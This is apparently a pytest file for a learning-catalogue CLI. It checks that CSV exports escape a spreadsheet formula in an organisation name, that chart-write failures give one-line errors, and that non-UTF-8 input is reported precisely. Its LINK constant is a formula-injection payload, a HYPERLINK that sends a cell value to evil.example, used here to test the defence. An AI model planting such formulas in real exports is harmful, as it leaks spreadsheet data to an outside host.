"""``colearn insights ... --csv`` and ``--chart``, and ``colearn ingest catalogue`` on a
file that is not UTF-8, through the CLI on an embedded store of their own: the demo
city with an organisation renamed to a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from colearn.cli import app

from tests.catalogue_builders import DEMO_CITY
from tests.cli_helpers import cli_data_dir

runner = CliRunner()
LINK = '=HYPERLINK("https://evil.example/?x="&A1,"Open report")'


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    city = tmp_path_factory.mktemp("formula-city") / "city"
    shutil.copytree(DEMO_CITY, city)
    orgs = yaml.safe_load((city / "organisations.yaml").read_text())
    for org in orgs:
        if org["id"] == "kiln-digital":
            org["name"] = LINK
    (city / "organisations.yaml").write_text(yaml.safe_dump(orgs, allow_unicode=True))
    yield from cli_data_dir(tmp_path_factory, "exports-cli", "ingest", "catalogue", str(city))


def test_insights_csv_quotes_a_formula_name(data_dir: Path) -> None:
    result = runner.invoke(app, ["insights", "issued", "--by", "organisation", "--interval", "month", "--csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    labels = {r["label"] for r in rows if r["group"] == "kiln-digital"}
    assert labels == {"'" + LINK}
    assert all(r["learners"] == "" or r["learners"].isdigit() for r in rows)


@pytest.mark.parametrize("name", ["nowhere/x.png", "out.jpg"])
def test_a_chart_that_cannot_be_written_is_one_line_naming_chart(data_dir: Path, tmp_path: Path,
                                                                 name: str) -> None:
    chart = tmp_path / name
    result = runner.invoke(app, ["insights", "issued", "--by", "theme", "--chart", str(chart)])
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    message = " ".join(result.output.split())
    assert message.startswith("error: --chart: ") and str(chart.name) in message, message
    assert "format" not in message and "Traceback" not in message
    assert not chart.exists()


def test_ingest_catalogue_names_the_line_and_column_of_a_byte_that_is_not_utf8(data_dir: Path,
                                                                               tmp_path: Path) -> None:
    folder = tmp_path / "latin1"
    folder.mkdir()
    (folder / "badges.csv").write_bytes("id,name,layer\nbarista,Caf\u00e9 Barista,skills\n".encode("latin-1"))
    result = runner.invoke(app, ["ingest", "catalogue", str(folder)])
    assert result.exit_code == 1, result.output
    message = " ".join(result.output.split())
    assert str(folder / "badges.csv") in message and "line 2, column 12" in message, message
    assert "byte 0xe9" in message and "UTF-8" in message
